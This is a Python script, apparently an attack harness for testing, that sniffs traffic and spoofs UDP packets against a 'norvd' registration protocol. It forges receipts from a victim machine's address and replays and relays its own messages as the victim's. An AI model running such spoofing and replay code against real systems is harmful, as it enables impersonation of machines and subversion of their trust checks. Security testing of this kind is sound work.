#!/usr/bin/env python3
"""forge_receipts.py: an attacker on one machine of a group who speaks for
another machine over the norvds' UDP port 16007.

Runs in the attacker's machine (its network namespace), as root. It sniffs the
machine's interface (AF_PACKET) and sends from a raw socket, so it can put any
source address on what it sends:

- for every ping the registrar broadcasts (UDP port 16006, a timed header of
  the registrar with a registration id of its own), a receipt of the victim
  machine that never got the ping: one of version 1 (no code) and one of
  version 2 (a code of random bytes), both from the victim's address and port
  16007, with the time now as receipt time;
- for every message its own machine's norvd sends the registrar (receipts and
  probes), the very same bytes again twice: from its own address (a replay)
  and from the victim's address (the message of one machine passed off as
  another's).

After every step it rewrites the counts file with one line
"v1=N v2=N replayed=N relayed=N" and appends the registration ids it forged to
the ids file. SIGTERM or SIGINT: it handles what it has sniffed already and
ends.
"""

import argparse
import os
import select
import signal
import socket
import struct
import sys
import time

ETH_P_ALL = 0x0003
PACKET_OUTGOING = 4
MAGIC = b"NRVD"
PORT = 16007
PING_PORT = 16006
HEADER = 184
ID_SHIFT = 26


def udp_packet(src, dst, payload):
    # Length, checksum and packet id are the kernel's to fill in (raw(7)); a
    # UDP checksum of 0 means none.
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0x4000, 64, socket.IPPROTO_UDP, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    return ip + struct.pack("!HHHH", PORT, PORT, 8 + len(payload), 0) + payload


def parse(packet):
    """(src, dst, sport, dport, payload) of an IPv4 UDP packet, or None."""
    if len(packet) < 28 or packet[0] >> 4 != 4 or packet[9] != socket.IPPROTO_UDP:
        return None
    ihl = (packet[0] & 0x0F) * 4
    total = struct.unpack("!H", packet[2:4])[0]
    if len(packet) < total or total < ihl + 8:
        return None
    sport, dport = struct.unpack("!HH", packet[ihl:ihl + 4])
    return (socket.inet_ntoa(packet[12:16]), socket.inet_ntoa(packet[16:20]), sport, dport,
            packet[ihl + 8:total])


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--iface", required=True)
    ap.add_argument("--registrar", required=True, help="ID=ADDRESS of the machine that pings")
    ap.add_argument("--victim", required=True, help="ID=ADDRESS of the machine spoken for")
    ap.add_argument("--own", required=True, help="ADDRESS of the attacker's machine")
    ap.add_argument("--counts", required=True)
    ap.add_argument("--ids", required=True)
    args = ap.parse_args()
    reg_id, reg_addr = args.registrar.split("=")
    victim_id, victim_addr = args.victim.split("=")
    reg_id, victim_id = int(reg_id), int(victim_id)

    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_ALL))
    sniff.bind((args.iface, ETH_P_ALL))
    sniff.setblocking(False)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)

    stop = []
    for s in (signal.SIGTERM, signal.SIGINT):
        signal.signal(s, lambda *_: stop.append(1))

    counts = {"v1": 0, "v2": 0, "replayed": 0, "relayed": 0}
    forged, replayed = set(), set()
    epoch, seq = time.time_ns(), 0

    def save():
        with open(args.counts + ".new", "w") as f:
            f.write(" ".join("%s=%d" % kv for kv in counts.items()) + "\n")
        os.replace(args.counts + ".new", args.counts)

    def send(src, payload):
        raw.sendto(udp_packet(src, reg_addr, payload), (reg_addr, 0))

    def handle(packet, outgoing):
        nonlocal seq
        p = parse(packet)
        if p is None:
            return
        src, dst, sport, dport, payload = p
        if (not outgoing and src == reg_addr and dport == PING_PORT and len(payload) >= HEADER
                and payload[0] == reg_id):
            reg = struct.unpack_from("<i", payload, 180)[0]
            if reg <= 0 or reg >> ID_SHIFT != reg_id or reg in forged:
                return
            forged.add(reg)
            now = time.time_ns()
            send(victim_addr, MAGIC + struct.pack("<BBBxiQ", 1, 1, victim_id, reg, now))
            seq += 1
            send(victim_addr, MAGIC + struct.pack("<BBBBiQQQ", 2, 1, victim_id, reg_id, reg, now, epoch, seq)
                 + os.urandom(32))
            counts["v1"] += 1
            counts["v2"] += 1
            with open(args.ids, "a") as f:
                f.write("%d\n" % reg)
            save()
        elif (outgoing and src == args.own and dst == reg_addr and sport == PORT and dport == PORT
              and payload.startswith(MAGIC) and payload not in replayed):
            # What this machine's norvd sent: its copies, sent below, look the
            # same and are passed over.
            replayed.add(payload)
            send(args.own, payload)
            send(victim_addr, payload)
            counts["replayed"] += 1
            counts["relayed"] += 1
            save()

    save()
    print("sniffing on %s" % args.iface, flush=True)
    while True:
        try:
            packet, addr = sniff.recvfrom(65535)
        except BlockingIOError:
            if stop:
                break
            try:
                select.select([sniff], [], [], 0.2)
            except InterruptedError:
                pass
            continue
        handle(packet, addr[2] == PACKET_OUTGOING)
    print("stopped: " + open(args.counts).read().strip(), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
